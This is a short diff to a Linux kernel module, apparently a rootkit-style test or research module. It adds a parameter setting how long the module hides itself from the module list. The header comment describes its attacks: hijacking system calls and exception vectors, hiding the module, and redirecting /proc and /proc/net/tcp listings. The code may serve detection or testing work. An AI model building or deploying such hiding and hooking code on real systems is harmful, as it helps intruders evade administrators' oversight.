@@ -12,7 +12,7 @@
  *   vectors  gives the CPU that it runs on another table of exception vectors
  *   call     has a system call lead to a function of this module
  *   compat   has one of programs of 32 bits do so
- *   hide     takes this module out of the list of modules, for ten seconds
+ *   hide     takes this module out of the list of modules, for `hidden` seconds
  *   proc     has the listing of /proc lead to a function of this module
  *   tcp      does what `hide` does, and has a function of TCP lead to this module meanwhile
  *   show     has the listing of /proc/net/tcp lead to a function of this module
@@ -45,6 +45,10 @@ MODULE_PARM_DESC(what, "the attack");
 int intruder_pid;
 module_param_named(pid, intruder_pid, int, 0);
 MODULE_PARM_DESC(pid, "whom it is about");
+
+int intruder_hidden = 10;
+module_param_named(hidden, intruder_hidden, int, 0);
+MODULE_PARM_DESC(hidden, "for how many seconds it is out of the list of modules");
 
 int intruder_undone;
 
